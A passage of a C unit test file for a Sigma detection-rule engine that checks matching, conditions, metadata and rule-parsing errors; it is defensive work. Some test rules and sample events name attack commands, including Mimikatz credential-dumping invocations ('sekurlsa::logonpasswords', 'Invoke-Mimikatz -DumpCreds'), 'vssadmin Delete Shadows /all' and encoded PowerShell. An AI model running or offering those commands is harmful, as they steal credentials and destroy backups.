/* Sigma: compiling rules from strings and files, matching (modifiers, case,
 * lists, wildcards, condition precedence, quantifiers, missing fields,
 * keywords), rule metadata, every refusal with its FILE:LINE message, the
 * bundled rules in rules/, and the data-driven cases in tests/cases/sigma. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <dirent.h>
#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "detect/sigma_internal.h" /* sg_disable_prefilter */
#include "mwrasp/config.h"
#include "mwrasp/detect.h"
#include "mwrasp/log.h"
#include "mwrasp/metrics.h"
#include "mwrasp/sigma.h"

#include "unit/sigma_testlib.h"

/* ---- helpers ------------------------------------------------------------- */

static mw_sigma_ruleset_t *one_rule(const char *yaml)
{
    mw_sigma_ruleset_t *rs = mw_sigma_ruleset_new();
    assert_non_null(rs);
    int rc = mw_sigma_add_string(rs, yaml, strlen(yaml), "t.yml");
    if (rc)
        fail_msg("rule refused: %s", mw_sigma_last_error(rs));
    assert_int_equal(mw_sigma_count(rs), 1);
    return rs;
}

static int fires(const mw_sigma_ruleset_t *rs, mw_event_t *ev)
{
    struct hits h = {0};
    assert_int_equal(match_all(rs, ev, &h), 0);
    mw_event_free(ev);
    return h.n;
}

/* Rule text with one selection body and a condition. */
static char *rule_with(const char *detection)
{
    static char buf[4096];
    snprintf(buf, sizeof buf,
             "title: T\nid: t-1\nlevel: high\nlogsource: {product: test}\ndetection:\n%s",
             detection);
    return buf;
}

/* ---- modifiers, case, lists ------------------------------------------- */

/* The Hyperscan databases of the prefilter (sigma_hs.c): built for a slot
 * with literal anchors, and only pruning: a literal that occurs in the
 * field anywhere or in another case must not make a rule fire unless its
 * own comparison holds (expected results worked out by hand). */
static void test_hs_prefilter(void **st)
{
    (void)st;
    static const char y[] =
        "title: A\nid: a\ndetection:\n  s:\n    CommandLine|startswith: 'abcd'\n  condition: s\n"
        "---\n"
        "title: B\nid: b\ndetection:\n  s:\n    CommandLine|endswith: 'wxyz'\n  condition: s\n"
        "---\n"
        "title: C\nid: c\ndetection:\n  s:\n    CommandLine|contains|cased: 'MiXeD'\n"
        "  condition: s\n"
        "---\n"
        "title: D\nid: d\ndetection:\n  s:\n    CommandLine|contains|all: ['one', 'two']\n"
        "  condition: s\n"
        "---\n"
        "title: E\nid: e\ndetection:\n  s:\n    CommandLine: 'exact value'\n"
        "    Image|endswith: '\\x.exe'\n  condition: s\n"
        "---\n"
        "title: F\nid: f\ndetection:\n  s:\n    CommandLine|contains: 'ab'\n  condition: s\n";
    mw_sigma_ruleset_t *rs = mw_sigma_ruleset_new();
    assert_non_null(rs);
    assert_int_equal(mw_sigma_add_string(rs, y, strlen(y), "hs.yml"), 0);
    assert_int_equal(mw_sigma_count(rs), 6);
    assert_true(rs->pf.hs_id != 0); /* some slot has a database */
    int32_t cl = sg_fields_find(&rs->fields, "CommandLine", 11);
    assert_true(cl >= 0);
    assert_non_null(rs->pf.slots[cl].hs_db);
    assert_int_equal(rs->pf.slots[cl].nrest, 1); /* F: 'ab' is too short */
    struct {
        const char *cmd, *image;
        const char *ids; /* rules firing, in load order */
    } cases[] = {
        {"ABCD and more", "i", "a,f"},
        {"x abcd", "i", "f"},
        {"x WXYZ", "i", "b"},
        {"wxyz x", "i", ""},
        {"a MiXeD b", "i", "c"},
        {"a mixed b", "i", ""},
        {"TWO and one", "i", "d"},
        {"one only", "i", ""},
        {"Exact Value", "C:\\X.EXE", "e"},
        {"exact value", "x.exe", ""},
        {"exact value 2", "c:\\x.exe", ""},
        {"", "i", ""},
        {"xab", "i", "f"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct hits h = {0};
        mw_event_t *ev = mkev("", "CommandLine", cases[i].cmd, "Image", cases[i].image, NULL);
        assert_int_equal(match_all(rs, ev, &h), 0);
        mw_event_free(ev);
        char got[64] = "";
        for (int k = 0; k < h.n && k < 16; k++) {
            if (k)
                strcat(got, ",");
            strncat(got, h.d[k].rule_id, 8);
        }
        if (strcmp(got, cases[i].ids))
            fail_msg("'%s': fired '%s', expected '%s'", cases[i].cmd, got, cases[i].ids);
    }
    mw_sigma_ruleset_free(rs);
}

/* The scan's literal bits in the evaluator (sigma_hs.c, value_match) and the
 * keyword database: a literal the scan did not report is false, one it
 * reported is still compared (place, case), in filters under `not` (no
 * anchors there) and in keywords; globs' bigram filter only rejects texts
 * lacking one of their literal pairs. Expected results worked out by hand. */
static void test_hs_literal_bits(void **st)
{
    (void)st;
    static const char y[] =
        "title: G\nid: g\ndetection:\n  s:\n    CommandLine|contains: 'run'\n"
        "  f:\n    CommandLine|endswith: 'safe.exe'\n"
        "  g:\n    CommandLine|contains|cased: 'QuIeT'\n"
        "  condition: s and not f and not g\n"
        "---\n"
        "title: K\nid: k\ndetection:\n  kw:\n    - 'needle'\n    - 'haystack'\n"
        "  condition: kw\n"
        "---\n"
        "title: W\nid: w\ndetection:\n  s:\n    Image: 'c:\\\\win*\\\\sys?em32\\\\*.exe'\n"
        "  condition: s\n";
    mw_sigma_ruleset_t *rs = mw_sigma_ruleset_new();
    assert_non_null(rs);
    assert_int_equal(mw_sigma_add_string(rs, y, strlen(y), "bits.yml"), 0);
    assert_int_equal(mw_sigma_count(rs), 3);
    assert_non_null(rs->pf.kw_db); /* sg_hs_min_anchors = 1: one keyword literal is enough */
    int32_t cl = sg_fields_find(&rs->fields, "CommandLine", 11);
    assert_true(cl >= 0);
    assert_non_null(rs->pf.slots[cl].hs_db);
    assert_int_equal(rs->pf.slots[cl].hs_nlit, 3); /* run, safe.exe, quiet */
    struct {
        const char *cmd, *image;
        const char *ids;
    } cases[] = {
        {"run x", "i", "g"},
        {"RUN safe.exe", "i", ""},
        {"run safe.exe.bak", "i", "g"}, /* endswith: found but not at the end */
        {"run SAFE.EXE", "i", ""},
        {"run QuIeT", "i", ""},
        {"run quiet", "i", "g"}, /* cased: found caselessly, compared cased */
        {"a Needle in", "i", "k"},
        {"nee", "dle", ""}, /* not across fields */
        {"x", "the HAYSTACK", "k"},
        {"x", "C:\\Windows\\System32\\cmd.exe", "w"},
        {"x", "C:\\Windows\\System32\\cmd.dll", ""},
        {"x", "C:\\Win\\Sys-em32\\a.exe", "w"},
        {"x", "D:\\Win\\Sys-em32\\a.exe", ""},
        {"", "", ""},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct hits h = {0};
        mw_event_t *ev = mkev("", "CommandLine", cases[i].cmd, "Image", cases[i].image, NULL);
        assert_int_equal(match_all(rs, ev, &h), 0);
        mw_event_free(ev);
        char got[64] = "";
        for (int k = 0; k < h.n && k < 16; k++) {
            if (k)
                strcat(got, ",");
            strncat(got, h.d[k].rule_id, 8);
        }
        if (strcmp(got, cases[i].ids))
            fail_msg("'%s' / '%s': fired '%s', expected '%s'", cases[i].cmd, cases[i].image, got,
                     cases[i].ids);
    }
    mw_sigma_ruleset_free(rs);
}

static void test_modifiers(void **st)
{
    (void)st;
    mw_sigma_ruleset_t *rs;
    rs = one_rule(rule_with("  sel:\n    Image: 'C:\\Windows\\cmd.exe'\n  condition: sel\n"));
    assert_int_equal(fires(rs, mkev("", "Image", "c:\\windows\\CMD.EXE", NULL)), 1);
    assert_int_equal(fires(rs, mkev("", "Image", "c:\\windows\\cmd.exe2", NULL)), 0);
    assert_int_equal(fires(rs, mkev("", "Image", "x c:\\windows\\cmd.exe", NULL)), 0);
    mw_sigma_ruleset_free(rs);

    rs = one_rule(rule_with("  sel:\n    CommandLine|contains: ' -ENC '\n  condition: sel\n"));
    assert_int_equal(fires(rs, mkev("", "CommandLine", "powershell -enc AAAA", NULL)), 1);
    assert_int_equal(fires(rs, mkev("", "CommandLine", " -Enc ", NULL)), 1);
    assert_int_equal(fires(rs, mkev("", "CommandLine", "powershell -encx", NULL)), 0);
    mw_sigma_ruleset_free(rs);

    rs = one_rule(rule_with("  sel:\n    p|startswith: 'Failed '\n  condition: sel\n"));
    assert_int_equal(fires(rs, mkev("", "p", "failed password", NULL)), 1);
    assert_int_equal(fires(rs, mkev("", "p", "Failed", NULL)), 0);
    assert_int_equal(fires(rs, mkev("", "p", " Failed x", NULL)), 0);
    mw_sigma_ruleset_free(rs);

    rs = one_rule(rule_with("  sel:\n    Image|endswith: '\\powershell.exe'\n  condition: sel\n"));
    assert_int_equal(fires(rs, mkev("", "Image", "C:\\x\\PowerShell.exe", NULL)), 1);
    assert_int_equal(fires(rs, mkev("", "Image", "C:\\x\\powershell.exe ", NULL)), 0);
    assert_int_equal(fires(rs, mkev("", "Image", "powershell.exe", NULL)), 0);
    mw_sigma_ruleset_free(rs);

    /* |all: every value must be contained */
    rs = one_rule(rule_with("  sel:\n    c|contains|all: [delete, shadows]\n  condition: sel\n"));
    assert_int_equal(fires(rs, mkev("", "c", "vssadmin Delete Shadows /all", NULL)), 1);
    assert_int_equal(fires(rs, mkev("", "c", "vssadmin delete", NULL)), 0);
    mw_sigma_ruleset_free(rs);
}

static void test_wildcards(void **st)
{
    (void)st;
    mw_sigma_ruleset_t *rs;
    /* unescaped * and ? are wildcards (Sigma), without modifiers too */
    rs = one_rule(rule_with("  sel:\n    Image: '*\\cmd.exe'\n  condition: sel\n"));
    assert_int_equal(fires(rs, mkev("", "Image", "C:\\Windows\\System32\\cmd.exe", NULL)), 1);
    assert_int_equal(fires(rs, mkev("", "Image", "C:\\cmd.exe.bak", NULL)), 0);
    mw_sigma_ruleset_free(rs);

    rs = one_rule(rule_with("  sel:\n    u: 'a?c*z'\n  condition: sel\n"));
    assert_int_equal(fires(rs, mkev("", "u", "ABCxyz", NULL)), 1);
    assert_int_equal(fires(rs, mkev("", "u", "abcz", NULL)), 1);
    assert_int_equal(fires(rs, mkev("", "u", "acz", NULL)), 0);
    assert_int_equal(fires(rs, mkev("", "u", "abcza", NULL)), 0);
    mw_sigma_ruleset_free(rs);

    /* escaped: \* is a literal star */
    rs = one_rule(rule_with("  sel:\n    u|contains: 'a\\*b'\n  condition: sel\n"));
    assert_int_equal(fires(rs, mkev("", "u", "xa*by", NULL)), 1);
    assert_int_equal(fires(rs, mkev("", "u", "xaQby", NULL)), 0);
    mw_sigma_ruleset_free(rs);

    /* "*" alone: any value, but the field must exist */
    rs = one_rule(rule_with("  sel:\n    u: '*'\n  condition: sel\n"));
    assert_int_equal(fires(rs, mkev("", "u", "", NULL)), 1);
    assert_int_equal(fires(rs, mkev("", "v", "x", NULL)), 0);
    mw_sigma_ruleset_free(rs);
}

static void test_case_and_numbers(void **st)
{
    (void)st;
    mw_sigma_ruleset_t *rs =
        one_rule(rule_with("  sel:\n    EventID: 4625\n    User: AdMiN\n  condition: sel\n"));
    assert_int_equal(fires(rs, mkev("", "EventID", "4625", "User", "admin", NULL)), 1);
    assert_int_equal(fires(rs, mkev("", "EventID", "4625", "User", "ADMIN", NULL)), 1);
    assert_int_equal(fires(rs, mkev("", "EventID", "46250", "User", "admin", NULL)), 0);
    assert_int_equal(fires(rs, mkev("", "EventID", "4625", "User", "admins", NULL)), 0);
    /* Field names: the exact spelling wins; when the event lacks it, a field
     * whose name differs only in ASCII case stands in (docs/sigma-compat.md). */
    assert_int_equal(fires(rs, mkev("", "eventid", "4625", "User", "admin", NULL)), 1);
    assert_int_equal(fires(rs, mkev("", "EVENTID", "4625", "uSeR", "admin", NULL)), 1);
    assert_int_equal(fires(rs, mkev("", "eventid", "4625", "EventID", "1", "User", "admin", NULL)),
                     0); /* exact EventID=1 wins over eventid=4625 */
    assert_int_equal(fires(rs, mkev("", "EventID", "4625", "eventid", "1", "User", "admin", NULL)),
                     1);
    assert_int_equal(fires(rs, mkev("", "Event_ID", "4625", "User", "admin", NULL)), 0);
    mw_sigma_ruleset_free(rs);
    /* Two spellings used by two rules, one spelling in the event: both see it. */
    static const char two[] = "title: A\nid: a\nlogsource: {product: t}\ndetection:\n  sel:\n"
                              "    TargetFilename|endswith: '.sdb'\n  condition: sel\n---\n"
                              "title: B\nid: b\nlogsource: {product: t}\ndetection:\n  sel:\n"
                              "    TargetFileName|endswith: '.sdb'\n  condition: sel\n";
    rs = mw_sigma_ruleset_new();
    assert_int_equal(mw_sigma_add_string(rs, two, strlen(two), "two.yml"), MW_OK);
    assert_int_equal(mw_sigma_count(rs), 2);
    assert_int_equal(fires(rs, mkev("", "TargetFileName", "C:\\x.sdb", NULL)), 2);
    assert_int_equal(fires(rs, mkev("", "TargetFilename", "C:\\x.sdb", NULL)), 2);
    assert_int_equal(fires(rs, mkev("", "targetfilename", "C:\\x.exe", NULL)), 0);
    mw_sigma_ruleset_free(rs);
}

static void test_lists(void **st)
{
    (void)st;
    /* list of values = OR; map = AND; list of maps = OR of ANDs */
    mw_sigma_ruleset_t *rs = one_rule(rule_with("  sel:\n"
                                                "    - EventID: [1, 4688]\n"
                                                "      Image|endswith: ['\\a.exe', '\\b.exe']\n"
                                                "    - OriginalFileName: b.exe\n"
                                                "  condition: sel\n"));
    assert_int_equal(fires(rs, mkev("", "EventID", "1", "Image", "c:\\a.exe", NULL)), 1);
    assert_int_equal(fires(rs, mkev("", "EventID", "4688", "Image", "c:\\B.exe", NULL)), 1);
    assert_int_equal(fires(rs, mkev("", "EventID", "2", "Image", "c:\\a.exe", NULL)), 0);
    assert_int_equal(fires(rs, mkev("", "EventID", "1", "Image", "c:\\c.exe", NULL)), 0);
    assert_int_equal(fires(rs, mkev("", "OriginalFileName", "B.EXE", NULL)), 1);
    mw_sigma_ruleset_free(rs);
}

/* ---- conditions ---------------------------------------------------------- */

static const char *ABC = "  a:\n    f: a\n  b:\n    f: b\n  c:\n    g: c\n";

static int abc(const char *cond, const char *f, const char *g)
{
    char det[512];
    snprintf(det, sizeof det, "%s  condition: %s\n", ABC, cond);
    mw_sigma_ruleset_t *rs = one_rule(rule_with(det));
    mw_event_t *ev = mw_event_new(MW_SRC_REPLAY, "", 0);
    assert_non_null(ev);
    if (f)
        assert_int_equal(mw_event_add_field(ev, "f", 1, f, strlen(f)), 0);
    if (g)
        assert_int_equal(mw_event_add_field(ev, "g", 1, g, strlen(g)), 0);
    int n = fires(rs, ev);
    mw_sigma_ruleset_free(rs);
    return n;
}

static void test_condition_precedence(void **st)
{
    (void)st;
    /* and binds tighter than or: a or (b and c) */
    assert_int_equal(abc("a or b and c", "a", NULL), 1);
    assert_int_equal(abc("a or b and c", "b", NULL), 0);
    assert_int_equal(abc("a or b and c", "b", "c"), 1);
    /* parentheses */
    assert_int_equal(abc("(a or b) and c", "a", NULL), 0);
    assert_int_equal(abc("(a or b) and c", "a", "c"), 1);
    /* not binds tighter than and: (not a) and c */
    assert_int_equal(abc("not a and c", "b", "c"), 1);
    assert_int_equal(abc("not a and c", "a", "c"), 0);
    assert_int_equal(abc("not (a and c)", "a", "x"), 1);
    assert_int_equal(abc("not not a", "a", NULL), 1);
    assert_int_equal(abc("a and not b or c", "b", "c"), 1);
    assert_int_equal(abc("a and not b or c", "b", "x"), 0);
    /* keywords are case-insensitive */
    assert_int_equal(abc("a OR c", NULL, "c"), 1);
    assert_int_equal(abc("((((a))))", "a", NULL), 1);
}

static void test_quantifiers(void **st)
{
    (void)st;
    assert_int_equal(abc("1 of them", NULL, "c"), 1);
    assert_int_equal(abc("1 of them", "x", "x"), 0);
    assert_int_equal(abc("all of them", "a", "c"), 0); /* b can't hold with f=a */
    assert_int_equal(abc("all of a*", "a", NULL), 1);
    assert_int_equal(abc("1 of ?", "b", NULL), 1);
    assert_int_equal(abc("2 of them", "a", "c"), 1);
    assert_int_equal(abc("2 of them", "a", "x"), 0);
    /* "them" skips selections starting with '_' */
    mw_sigma_ruleset_t *rs = one_rule(rule_with("  sel:\n    f: a\n  _helper:\n    f: z\n"
                                                "  condition: all of them\n"));
    assert_int_equal(fires(rs, mkev("", "f", "a", NULL)), 1);
    mw_sigma_ruleset_free(rs);
    /* a list of conditions is their OR */
    rs = one_rule(rule_with("  x:\n    f: a\n  y:\n    f: b\n  condition:\n    - x\n    - y\n"));
    assert_int_equal(fires(rs, mkev("", "f", "b", NULL)), 1);
    assert_int_equal(fires(rs, mkev("", "f", "c", NULL)), 0);
    mw_sigma_ruleset_free(rs);
}

static void test_missing_fields(void **st)
{
    (void)st;
    /* a missing field never matches, whatever the modifier... */
    assert_int_equal(abc("a", NULL, "c"), 0);
    assert_int_equal(abc("c", "a", NULL), 0);
    /* ...except under not */
    assert_int_equal(abc("not a", NULL, NULL), 1);
    assert_int_equal(abc("c and not a", NULL, "c"), 1);
    /* null: field missing or empty */
    mw_sigma_ruleset_t *rs =
        one_rule(rule_with("  sel:\n    f: x\n    g: null\n  condition: sel\n"));
    assert_int_equal(fires(rs, mkev("", "f", "x", NULL)), 1);
    assert_int_equal(fires(rs, mkev("", "f", "x", "g", "", NULL)), 1);
    assert_int_equal(fires(rs, mkev("", "f", "x", "g", "y", NULL)), 0);
    mw_sigma_ruleset_free(rs);
    /* empty value: present and empty */
    rs = one_rule(rule_with("  sel:\n    g: ''\n  condition: sel\n"));
    assert_int_equal(fires(rs, mkev("", "g", "", NULL)), 1);
    assert_int_equal(fires(rs, mkev("", "f", "", NULL)), 0);
    mw_sigma_ruleset_free(rs);
}

static void test_keywords(void **st)
{
    (void)st;
    mw_sigma_ruleset_t *rs =
        one_rule(rule_with("  keywords:\n    - 'sekurlsa::'\n    - 'Invoke-Mimikatz'\n"
                           "  condition: keywords\n"));
    assert_int_equal(fires(rs, mkev("cmd: invoke-mimikatz -DumpCreds", NULL)), 1);
    assert_int_equal(fires(rs, mkev("mimikatz # SEKURLSA::logonpasswords", NULL)), 1);
    /* keywords search every field of the event (Sigma: "across an entire
     * event"); the raw text only when the event has no fields */
    assert_int_equal(fires(rs, mkev("mimikatz # kerberos::list", "x", "sekurlsa::", NULL)), 1);
    assert_int_equal(fires(rs, mkev("sekurlsa::", "x", "kerberos::list", NULL)), 0);
    assert_int_equal(fires(rs, mkev("", "a", "x", "b", "y Invoke-MIMIKATZ", NULL)), 1);
    mw_sigma_ruleset_free(rs);
}

static void test_first_field_wins_and_scratch(void **st)
{
    (void)st;
    mw_sigma_ruleset_t *rs = one_rule(rule_with("  sel:\n    f|contains: bad\n  condition: sel\n"));
    mw_sigma_scratch_t *sc = NULL;
    assert_int_equal(mw_sigma_scratch_new(rs, &sc), 0);
    struct hits h = {0};
    mw_event_t *ev = mkev("", "f", "good", "f", "bad", NULL);
    assert_int_equal(mw_sigma_match(rs, sc, ev, collect, &h), 0);
    assert_int_equal(h.n, 0);
    mw_event_free(ev);
    /* scratch reused across events: no stale values */
    ev = mkev("", "f", "so BAD", NULL);
    assert_int_equal(mw_sigma_match(rs, sc, ev, collect, &h), 0);
    assert_int_equal(h.n, 1);
    mw_event_free(ev);
    ev = mkev("", "g", "bad", NULL);
    assert_int_equal(mw_sigma_match(rs, sc, ev, collect, &h), 0);
    assert_int_equal(h.n, 1);
    mw_event_free(ev);
    /* rules added after the scratch was made: the scratch adapts */
    const char *more = "title: M\ndetection:\n  s:\n    newfield: v\n  condition: s\n";
    assert_int_equal(mw_sigma_add_string(rs, more, strlen(more), "m.yml"), 0);
    ev = mkev("", "newfield", "V", NULL);
    assert_int_equal(mw_sigma_match(rs, sc, ev, collect, &h), 0);
    assert_int_equal(h.n, 2);
    assert_string_equal(h.d[1].rule_id, "m"); /* id from the file name */
    mw_event_free(ev);
    mw_sigma_scratch_free(sc);
    mw_sigma_ruleset_free(rs);
}

static int stop_emit(void *ctx, const mw_detection_t *d)
{
    (void)d;
    ++*(int *)ctx;
    return MW_ELIMIT;
}

static int fail_emit(void *ctx, const mw_detection_t *d)
{
    (void)ctx;
    (void)d;
    return MW_EIO;
}

static void test_emit_results(void **st)
{
    (void)st;
    const char *two = "title: A\ndetection:\n  s:\n    f: x\n  condition: s\n---\n"
                      "title: B\ndetection:\n  s:\n    f: x\n  condition: s\n";
    mw_sigma_ruleset_t *rs = mw_sigma_ruleset_new();
    assert_int_equal(mw_sigma_add_string(rs, two, strlen(two), "dir/two.yaml"), 0);
    assert_int_equal(mw_sigma_count(rs), 2);
    struct hits h = {0};
    mw_event_t *ev = mkev("", "f", "x", NULL);
    assert_int_equal(mw_sigma_match(rs, NULL, ev, collect, &h), 0);
    assert_int_equal(h.n, 2);
    assert_string_equal(h.d[0].rule_id, "two");
    assert_string_equal(h.d[1].rule_id, "two#2");
    int calls = 0;
    assert_int_equal(mw_sigma_match(rs, NULL, ev, stop_emit, &calls), 0);
    assert_int_equal(calls, 1);
    assert_int_equal(mw_sigma_match(rs, NULL, ev, fail_emit, NULL), MW_EIO);
    mw_event_free(ev);
    mw_sigma_ruleset_free(rs);
}

/* ---- metadata ------------------------------------------------------------- */

static void test_metadata(void **st)
{
    (void)st;
    mw_sigma_ruleset_t *rs =
        one_rule("title: Credential Thing\nid: 0b1e-42\nstatus: test\nlevel: critical\n"
                 "tags: [attack.t1003, attack.credential_access, attack.discovery]\n"
                 "logsource: {product: windows}\ndetection:\n  s:\n    f: x\n  condition: s\n");
    struct hits h = {0};
    mw_event_t *ev = mkev("", "f", "X", NULL);
    assert_int_equal(mw_sigma_match(rs, NULL, ev, collect, &h), 0);
    mw_event_free(ev);
    assert_int_equal(h.n, 1);
    assert_string_equal(h.d[0].detector, "sigma");
    assert_string_equal(h.d[0].rule_id, "0b1e-42");
    assert_string_equal(h.d[0].title, "Credential Thing");
    assert_string_equal(h.d[0].type, "credential-access");
    assert_string_equal(h.d[0].threat_class, "signature");
    assert_int_equal(h.d[0].severity, 1);
    assert_true(h.d[0].confidence > 0.69 && h.d[0].confidence < 0.71);
    mw_sigma_ruleset_free(rs);

    rs = one_rule("title: X\nlevel: informational\nmwrasp.confidence: 0.95\n"
                  "detection:\n  s:\n    f: x\n  condition: s\n");
    h.n = 0;
    ev = mkev("", "f", "x", NULL);
    assert_int_equal(mw_sigma_match(rs, NULL, ev, collect, &h), 0);
    mw_event_free(ev);
    assert_int_equal(h.d[0].severity, 5);
    assert_string_equal(h.d[0].type, "unknown");
    assert_true(h.d[0].confidence > 0.949 && h.d[0].confidence < 0.951);
    mw_sigma_ruleset_free(rs);

    rs = one_rule("title: Y\nmwrasp:\n  confidence: 0.5\n"
                  "detection:\n  s:\n    f: x\n  condition: s\n");
    h.n = 0;
    ev = mkev("", "f", "x", NULL);
    assert_int_equal(mw_sigma_match(rs, NULL, ev, collect, &h), 0);
    mw_event_free(ev);
    assert_int_equal(h.d[0].severity, 3); /* no level: medium */
    assert_true(h.d[0].confidence > 0.49 && h.d[0].confidence < 0.51);
    mw_sigma_ruleset_free(rs);
}

static void test_severity(void **st)
{
    (void)st;
    int s = 0;
    const char *names[] = {"critical", "high", "medium", "low", "informational"};
    for (int i = 0; i < 5; i++) {
        assert_int_equal(mw_severity_from_level(names[i], &s), 0);
        assert_int_equal(s, i + 1);
        assert_string_equal(mw_severity_name(i + 1), names[i]);
    }
    assert_int_equal(mw_severity_from_level("HIGH", &s), 0);
    assert_int_equal(s, 2);
    s = 9;
    assert_int_equal(mw_severity_from_level("severe", &s), MW_EINVAL);
    assert_int_equal(s, 9);
    assert_string_equal(mw_severity_name(0), "unknown");
    assert_string_equal(mw_severity_name(6), "unknown");
}

/* ---- refusals ------------------------------------------------------------- */

struct bad {
    const char *yaml;
    int rc;
    const char *msg; /* must appear in the error, which must start with "bad.yml:LINE" */
    int line;
};

static void test_errors(void **st)
{
    (void)st;
    static char deep[2048];
    size_t o = (size_t)snprintf(deep, sizeof deep,
                                "title: D\ndetection:\n  s:\n    f: x\n"
                                "  condition: ");
    for (int i = 0; i < 70; i++)
        deep[o++] = '(';
    deep[o++] = 's';
    for (int i = 0; i < 70; i++)
        deep[o++] = ')';
    deep[o++] = '\n';
    deep[o] = '\0';
    static char flow[256];
    o = (size_t)snprintf(flow, sizeof flow, "title: A\ndetection:\n  s:\n    f: ");
    for (int i = 0; i < 70; i++)
        flow[o++] = '[';
    flow[o] = '\0';
    static char many[MW_SIGMA_MAX_VALUES * 16 + 128];
    o = (size_t)snprintf(many, sizeof many, "title: M\ndetection:\n  s:\n    f:\n");
    for (int i = 0; i < MW_SIGMA_MAX_VALUES + 1; i++)
        o += (size_t)snprintf(many + o, sizeof many - o, "      - v%d\n", i);
    snprintf(many + o, sizeof many - o, "  condition: s\n");

    const struct bad cases[] = {
        {"title: A\ndetection:\n  s:\n    f: [a, b\n  condition: s\n", MW_EPARSE, "yaml error", 5},
        {"title: A\n\tdetection: x\n", MW_EPARSE, "yaml error", 2},
        {"title: A\ndetection:\n  s:\n    f|foo: 'a.*'\n  condition: s\n", MW_EINVAL,
         "unsupported modifier 'foo' in 'f|foo'", 4},
        {"title: A\ndetection:\n  s:\n    f|re: 'a(('\n  condition: s\n", MW_EINVAL,
         "invalid regular expression 'a((' at offset 3: missing closing parenthesis", 4},
        {"title: A\ndetection:\n  s:\n    f|expand: '%x%'\n  condition: s\n", MW_EINVAL,
         "modifier 'expand' (placeholders) is not supported", 4},
        {"title: A\ndetection:\n  s:\n    f|contains|endswith: x\n  condition: s\n", MW_EINVAL,
         "conflicting modifiers", 4},
        {"title: A\ndetection:\n  s:\n    f: x\n  condition: s and t\n", MW_EINVAL,
         "unknown selection 't'", 5},
        {"title: A\ndetection:\n  s:\n    f: x\n  condition: s | count() > 5\n", MW_EINVAL,
         "aggregations", 5},
        {"title: A\ndetection:\n  s:\n    f: x\n  condition: (s\n", MW_EINVAL, "expected ')'", 5},
        {"title: A\ndetection:\n  s:\n    f: x\n  condition: s s\n", MW_EINVAL, "unexpected 's'",
         5},
        {"title: A\ndetection:\n  s:\n    f: x\n  condition: s and\n", MW_EINVAL,
         "expected a selection name", 5},
        {"title: A\ndetection:\n  s:\n    f: x\n  condition: 1 of z*\n", MW_EINVAL,
         "matches no selection", 5},
        {"title: A\ndetection:\n  s:\n    f: x\n  condition: s*\n", MW_EINVAL, "needs '1 of'", 5},
        {"title: A\ndetection:\n  s:\n    f: x\n  timeframe: 5m\n  condition: s\n", MW_EINVAL,
         "timeframe", 5},
        {"title: A\ndetection:\n  s:\n    f: x\n", MW_EINVAL, "no 'condition'", 3},
        {"title: A\nlevel: x\ndetection:\n  s:\n    f: x\n  condition: s\n", MW_EINVAL,
         "unknown level 'x'", 2},
        {"level: high\ndetection:\n  s:\n    f: x\n  condition: s\n", MW_EINVAL, "no 'title'", 1},
        {"title: A\nlevel: high\n", MW_EINVAL, "no 'detection'", 1},
        {"- a\n- b\n", MW_EINVAL, "must be a YAML map", 1},
        {"title: A\ndetection:\n  s:\n    f:\n      x: y\n  condition: s\n", MW_EINVAL,
         "a map as the value of field 'f'", 5},
        {"title: A\ndetection:\n  s:\n    f: []\n  condition: s\n", MW_EINVAL, "empty value list",
         4},
        {"title: A\ndetection:\n  s:\n    f: [[a]]\n  condition: s\n", MW_EINVAL,
         "must be a string", 4},
        {"title: A\ndetection:\n  s:\n    - f: a\n    - b\n  condition: s\n", MW_EINVAL,
         "mixes maps", 5},
        {"title: A\ndetection:\n  s:\n    '|cidr': a\n  condition: s\n", MW_EINVAL,
         "'|cidr' needs a field name", 4},
        {"title: A\naction: global\ndetection:\n  s:\n    f: x\n  condition: s\n", MW_EINVAL,
         "rule collections", 2},
        {"title: A\nmwrasp.confidence: 2\ndetection:\n  s:\n    f: x\n  condition: s\n", MW_EINVAL,
         "confidence", 2},
        {"title: A\ndetection:\n  s:\n    f: x\n  s:\n    f: y\n  condition: s\n", MW_EINVAL,
         "duplicate selection 's'", 5},
        {"title: A\ndetection:\n  s:\n    f: x\n  condition: s near t\n", MW_EINVAL,
         "'near' is not supported", 5},
        {"title: A\ndetection:\n  s: ~\n  condition: s\n", MW_EINVAL, "is empty", 3},
        {deep, MW_ELIMIT, "nested deeper than 64", 5},
        {flow, MW_ELIMIT, "yaml error: '[' / '{' nested deeper than 64", 4},
        {many, MW_ELIMIT, "more than 8192 values", 5},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        mw_sigma_ruleset_t *rs = mw_sigma_ruleset_new();
        uint64_t before = MW_GET(mw_metrics.rule_errors);
        int rc = mw_sigma_add_string(rs, cases[i].yaml, strlen(cases[i].yaml), "bad.yml");
        const char *e = mw_sigma_last_error(rs);
        char prefix[32];
        snprintf(prefix, sizeof prefix, "bad.yml:%d:", cases[i].line);
        if (rc != cases[i].rc || !strstr(e, cases[i].msg) || strncmp(e, prefix, strlen(prefix)))
            fail_msg("case %zu: rc %d (want %d), message '%s' (want prefix '%s' and '%s')", i, rc,
                     cases[i].rc, e, prefix, cases[i].msg);
        assert_int_equal(mw_sigma_count(rs), 0);
        assert_int_equal(MW_GET(mw_metrics.rule_errors), before + 1);
        mw_sigma_ruleset_free(rs);
    }
}

static void test_yaml_error_has_column(void **st)
{
    (void)st;
    mw_sigma_ruleset_t *rs = mw_sigma_ruleset_new();
    const char *y = "title: A\ndetection:\n  s: {f: x\n";
    assert_int_equal(mw_sigma_add_string(rs, y, strlen(y), "r/x.yml"), MW_EPARSE);
    const char *e = mw_sigma_last_error(rs);
    /* FILE:LINE:COL: yaml error: ... */
    unsigned line = 0, col = 0;
    assert_int_equal(sscanf(e, "r/x.yml:%u:%u: yaml error: ", &line, &col), 2);
    assert_true(line >= 3 && col >= 1);
    assert_non_null(strstr(e, ": yaml error: "));
    mw_sigma_ruleset_free(rs);
}

/* Brackets in quotes, comments and plain text do not count as nesting. */
static void test_brackets_not_nesting(void **st)
{
    (void)st;
    char y[1024], br[80];
    memset(br, '[', 79);
    br[79] = '\0';
    snprintf(y, sizeof y,
             "title: x\ndescription: \"%s\"\nnote: '%s'\nauthor: a%s # %s\n"
             "detection:\n  s: {f: ['%s']}\n  condition: s\n",
